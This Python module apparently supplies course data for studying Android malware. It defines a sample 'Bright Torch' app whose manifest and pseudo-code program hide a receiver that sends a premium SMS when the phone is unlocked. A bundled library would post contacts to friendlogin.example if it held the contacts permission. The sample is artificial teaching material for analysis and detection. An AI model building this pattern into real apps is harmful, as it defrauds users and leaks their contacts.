"""One harmful app, short enough to be read in full: a torch that sends an expensive SMS whenever the screen is unlocked.

What an owner sees is a torch. Two of its functions wait for permissions that it does not request: with READ_CONTACTS its
library would send the contacts to a server, with VIBRATE the torch would buzz.
"""

from advcourse.data.apps.making import App

_MANIFEST = """<?xml version="1.0" encoding="utf-8"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="org.example.brighttorch">
  <uses-sdk android:minSdkVersion="16" android:targetSdkVersion="22"/>
  <uses-feature android:name="android.hardware.camera.flash" android:required="false"/>
  <uses-permission android:name="android.permission.FLASHLIGHT"/>
  <uses-permission android:name="android.permission.INTERNET"/>
  <uses-permission android:name="android.permission.SEND_SMS"/>
  <application android:label="Bright Torch">
    <activity android:name=".MainActivity">
      <intent-filter>
        <action android:name="android.intent.action.MAIN"/>
        <category android:name="android.intent.category.LAUNCHER"/>
      </intent-filter>
    </activity>
    <receiver android:name=".WidgetReceiver">
      <intent-filter>
        <action android:name="android.intent.action.USER_PRESENT"/>
      </intent-filter>
    </receiver>
  </application>
</manifest>
"""
_PROGRAM = """# The torch, as its owner knows it.
class .MainActivity
  on create
    call TextView.setText welcome
    call Thread.start com.friendlogin.OnLaunch
  on click
    call Torch.setMode on
    ifperm android.permission.VIBRATE 1
    call Vibrator.vibrate click

# A library. What it may read, it sends.
class com.friendlogin.OnLaunch
  on run
    ifperm android.permission.READ_CONTACTS 1
    call Contacts.query friends
    call HttpURLConnection.post friendlogin.example

# The payload, under a harmless name.
class .WidgetReceiver
  on receive
    call Base64.decode text
    call SmsManager.sendTextMessage 90000
"""

TORCH = App("org.example.brighttorch", "torch", "premium SMS", _MANIFEST, _PROGRAM)
